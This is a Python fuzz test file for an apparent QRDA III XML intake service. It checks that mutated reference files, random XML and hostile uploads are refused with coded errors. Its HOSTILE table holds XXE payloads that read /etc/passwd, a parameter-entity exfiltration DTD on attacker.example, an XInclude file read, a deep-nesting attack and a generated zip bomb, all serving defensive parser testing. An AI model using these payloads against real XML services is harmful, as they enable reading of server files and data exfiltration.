"""Fuzzing QRDA III intake with CMS's own reference files: mutated files and structured XML
garbage give coded problems, never an exception (other than the documented
`MeasuresYearUnavailable` from `convert` when a year's measures data is not installed) and
never a hang; hostile files (XXE variants, external DTDs, wrong encodings, a zip bomb named
.xml, XInclude, the default size and depth limits) are refused with a code.

tests/unit/intake/test_fuzz.py fuzzes a generated document and random bytes, and
tests/unit/intake/qrda3/test_xml_safety.py refuses the internal-subset XXE, a SYSTEM DTD,
billion laughs, a UTF-16 (with BOM) DTD and deep nesting at the parser; this file adds the
reference files, the service entry point (`validate_bytes`) and the attacks those miss.
Bounded: each test has a small `max_examples`, and `no_hang` trips on a real hang only.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from functools import cache

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.support.hangs import no_hang
from tests.support.reference import QRDA3_REFERENCE, missing

from openqpp.intake.qrda3 import Qrda3Conversion, convert
from openqpp.measures import MeasuresError, MeasuresYear
from openqpp.services.submissions_convert import FileValidation, catalogue, validate_bytes

FUZZ = settings(
    max_examples=300,
    deadline=None,  # no_hang guards each call instead: CI machines vary
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
CODE = re.compile(r"[A-Z]{2}[A-Z0-9]*(-[A-Z0-9]+)*")


@cache
def reference_files() -> dict[str, bytes]:
    files = sorted(QRDA3_REFERENCE.glob("*.xml"))
    return {path.name: path.read_bytes() for path in files}


def _reference() -> dict[str, bytes]:
    files = reference_files()
    if not files:
        missing(f"the QRDA III reference files in {QRDA3_REFERENCE}")
    return files


def _measures(year: int) -> MeasuresYear:
    return catalogue().year(year)


def _convert(data: bytes, *, exhaustive: bool = False) -> Qrda3Conversion | None:
    with no_hang():
        try:
            result = convert(data, source="fuzz.xml", measures_for=_measures, exhaustive=exhaustive)
        except MeasuresError:  # documented: the file needs a year that is not installed
            return None
    assert isinstance(result, Qrda3Conversion)
    assert result.submission is not None or result.problems
    for problem in result.problems:
        assert CODE.fullmatch(problem.code), problem
    json.dumps(
        result.error_report() if result.submission is None else result.submission.to_qpp_json()
    )
    return result


def _validate(name: str, data: bytes) -> FileValidation:
    with no_hang():
        result = validate_bytes(name, data)
    assert result.submission is not None or result.errors, "no submission and no error"
    for finding in result.findings:
        assert CODE.fullmatch(finding.code), finding
        assert finding.message
    return result


# --------------------------------------------------------------------------- mutations

TOKENS = [
    b"<", b">", b"</", b"/>", b'"', b"'", b"&", b"&amp;", b"&#0;", b"&#x110000;", b"<![CDATA[",
    b"]]>", b"<!--", b"-->", b"<?xml version='1.0'?>", b"\x00", b"\xff\xfe", b"\xc3", b"-1",
    b"1e309", b"1e999999999", b"NaN", b"99999999999999999999", b"0.", b"xsi:type=\"INT\"",
    b' value=""',
    b' root="2.16.840.1.113883.10.20.27.3.5"', b"<entry>", b"</entry>", b"<component>",
]  # fmt: skip


@st.composite
def mutated(draw: st.DrawFn, files: dict[str, bytes]) -> tuple[str, bytes]:
    name = draw(st.sampled_from(sorted(files)), label="file")
    document = bytearray(files[name])
    for _ in range(draw(st.integers(1, 6), label="mutations")):
        at = draw(st.integers(0, len(document)), label="at")
        operation = draw(
            st.sampled_from(["delete", "insert", "duplicate", "digit", "swap-tag", "truncate"])
        )
        if operation == "delete":
            del document[at : at + draw(st.integers(1, 400))]
        elif operation == "insert":
            document[at:at] = draw(st.sampled_from(TOKENS) | st.binary(max_size=12))
        elif operation == "duplicate":
            document[at:at] = document[at : at + draw(st.integers(1, 2000))]
        elif operation == "digit":  # numbers are what the converter reads most
            digits = [m.start() for m in re.finditer(rb"\d", document[at : at + 4000])]
            if digits:
                index = at + draw(st.sampled_from(digits))
                document[index : index + 1] = draw(st.sampled_from([b"0", b"9", b"-", b".", b""]))
        elif operation == "swap-tag":  # rename the element that starts after `at`
            found = re.search(rb"<([A-Za-z][\w.:-]*)", document[at:])
            if found:
                start = at + found.start(1)
                document[start : start + len(found.group(1))] = draw(
                    st.sampled_from([b"entry", b"observation", b"x", b"value", b"templateId"])
                )
        else:
            del document[at:]
    return name, bytes(document)


@FUZZ
@given(st.data())
def test_mutated_reference_files_convert_to_coded_problems(data: st.DataObject) -> None:
    _, document = data.draw(mutated(_reference()))
    _convert(document, exhaustive=data.draw(st.booleans(), label="exhaustive"))


@FUZZ
@given(st.data())
def test_mutated_reference_files_validate_with_coded_findings(data: st.DataObject) -> None:
    name, document = data.draw(mutated(_reference()))
    _validate(name, document)


# --------------------------------------------------------------------------- structured garbage

NAMESPACES = ["urn:hl7-org:v3", "http://www.w3.org/2001/XMLSchema-instance", "", "urn:x"]
TAGS = [
    "ClinicalDocument", "component", "structuredBody", "section", "entry", "organizer",
    "observation", "templateId", "code", "value", "reference", "externalDocument", "id",
    "effectiveTime", "low", "high", "participant", "documentationOf", "performer",
    "assignedEntity", "representedOrganization", "informationRecipient", "intendedRecipient",
    "entryRelationship", "x",
]  # fmt: skip
TEMPLATE_ROOTS = [
    "2.16.840.1.113883.10.20.27.1.2", "2.16.840.1.113883.10.20.27.2.1",
    "2.16.840.1.113883.10.20.27.2.4", "2.16.840.1.113883.10.20.27.3.1",
    "2.16.840.1.113883.10.20.27.3.5", "2.16.840.1.113883.10.20.27.3.25",
]  # fmt: skip
ATTRIBUTES = st.dictionaries(
    st.sampled_from(
        ["root", "extension", "code", "value", "codeSystem", "type", "unit", "xsi:type"]
    ),
    st.sampled_from([*TEMPLATE_ROOTS, "", "INT", "REAL", "-1", "2025", "MIPS", "1e3", "a<"])
    | st.text(max_size=8),
    max_size=3,
)
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _xml(tree: object) -> str:
    tag, attributes, children = tree  # type: ignore[misc]
    rendered = "".join(f' {k}="{_escape(v)}"' for k, v in attributes.items())
    inner = "".join(_escape(c) if isinstance(c, str) else _xml(c) for c in children)
    return f"<{tag}{rendered}>{inner}</{tag}>"


elements = st.recursive(
    st.tuples(st.sampled_from(TAGS), ATTRIBUTES, st.lists(TEXT, max_size=1)),
    lambda children: st.tuples(
        st.sampled_from(TAGS), ATTRIBUTES, st.lists(children | TEXT, max_size=4)
    ),
    max_leaves=40,
)


@FUZZ
@given(elements, st.sampled_from(NAMESPACES), st.booleans())
def test_structured_xml_garbage_gives_coded_problems(
    tree: object, namespace: str, declaration: bool
) -> None:
    body = _xml(("ClinicalDocument", {}, [tree]))
    ns = f' xmlns="{namespace}"' if namespace else ""
    body = body.replace(
        "<ClinicalDocument>", f'<ClinicalDocument{ns} xmlns:xsi="{NAMESPACES[1]}">', 1
    )
    text = ('<?xml version="1.0" encoding="UTF-8"?>\n' if declaration else "") + body
    _convert(text.encode(), exhaustive=True)
    _validate("garbage.xml", text.encode())


# --------------------------------------------------------------------------- hostile files

PASSWD = "root:x:0:0"


def _zip_bomb(name: str) -> bytes:
    """64 MiB of zeros in a ~64 KiB zip; uploads are never unpacked, so it must be refused."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w") as member,
    ):
        chunk = b"\0" * (1 << 20)
        for _ in range(64):
            member.write(chunk)
    return buffer.getvalue()


HOSTILE: dict[str, tuple[bytes, set[str] | None]] = {
    "xxe-parameter-entity": (
        b'<?xml version="1.0"?>\n<!DOCTYPE ClinicalDocument [\n'
        b' <!ENTITY % remote SYSTEM "file:///etc/passwd">\n %remote;\n]>\n'
        b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>',
        {"OQ-XML-002"},
    ),
    "xxe-parameter-entity-exfiltration": (
        b'<?xml version="1.0"?>\n<!DOCTYPE r [\n'
        b' <!ENTITY % file SYSTEM "file:///etc/hostname">\n'
        b' <!ENTITY % dtd SYSTEM "http://attacker.example/exfil.dtd">\n %dtd;\n]>\n<r/>',
        {"OQ-XML-002"},
    ),
    "external-dtd-public": (
        b'<?xml version="1.0"?>\n<!DOCTYPE ClinicalDocument PUBLIC "-//ATTACKER//DTD X//EN" '
        b'"http://attacker.example/x.dtd">\n<ClinicalDocument xmlns="urn:hl7-org:v3"/>',
        {"OQ-XML-002"},
    ),
    "doctype-after-comment": (
        b'<?xml version="1.0"?>\n<!-- hello -->\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/'
        b'passwd">]>\n<x>&e;</x>',
        {"OQ-XML-002"},
    ),
    "xxe-utf16-without-bom": (
        '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM '
        '"file:///etc/passwd">]>\n<x>&e;</x>'.encode("utf-16-le"),
        {"OQ-XML-002", "CT002"},
    ),
    "utf16-without-bom": (
        '<?xml version="1.0" encoding="UTF-16"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>'.encode(
            "utf-16-le"
        ),
        None,  # readable or not, it must end in coded problems
    ),
    "invalid-utf8": (
        b'<?xml version="1.0" encoding="UTF-8"?><ClinicalDocument xmlns="urn:hl7-org:v3">'
        b"<title>\xc3\x28\xff</title></ClinicalDocument>",
        {"CT002"},
    ),
    "latin1-declared-utf8": (
        '<?xml version="1.0" encoding="UTF-8"?><ClinicalDocument xmlns="urn:hl7-org:v3">'
        "<title>Clínica São José</title></ClinicalDocument>".encode("latin-1"),
        {"CT002"},
    ),
    "unknown-encoding": (
        b'<?xml version="1.0" encoding="X-NO-SUCH"?><ClinicalDocument/>',
        {"CT002"},
    ),
    "xinclude": (
        b'<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></ClinicalDocument>',
        None,
    ),
    "deep-nesting-100k": (b"<a>" * 100_000 + b"</a>" * 100_000, {"OQ-XML-003", "CT002"}),
    "zip-bomb-named-xml": (_zip_bomb("file.xml"), {"CT002"}),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_with_a_code(name: str) -> None:
    data, expected = HOSTILE[name]
    result = _validate(f"{name}.xml", data)
    assert result.kind == "qrda3"
    assert result.submission is None
    codes = {finding.code for finding in result.errors}
    assert codes
    if expected is not None:
        assert codes <= expected, codes
    everything = json.dumps([f.message for f in result.findings])
    assert PASSWD not in everything
    conversion = _convert(data)
    assert conversion is not None
    assert conversion.submission is None


def test_an_oversized_xml_file_is_refused_at_the_default_limit_before_parsing() -> None:
    data = b"<ClinicalDocument>" + b" " * (32 * 1024 * 1024) + b"</ClinicalDocument>"
    result = _validate("big.xml", data)
    assert [finding.code for finding in result.findings] == ["OQ-XML-001"]


@pytest.mark.parametrize(
    "number",
    ["1e999999999", "1E+999999999", "9" * 5000, "1e-999999999", "0." + "0" * 100_000 + "1"],
)
@pytest.mark.parametrize("xsi_type", ["INT", "REAL"])
def test_absurd_numbers_in_a_reference_file_give_coded_findings_quickly(
    number: str, xsi_type: str
) -> None:
    data = _reference()["valid-QRDA-III-latest.xml"]
    pattern = re.compile(rb'(xsi:type="' + xsi_type.encode() + rb'" value=")[^"]*(")')
    mutated, count = pattern.subn(rb"\g<1>" + number.encode() + rb"\g<2>", data, count=1)
    assert count == 1
    _validate("numbers.xml", mutated)
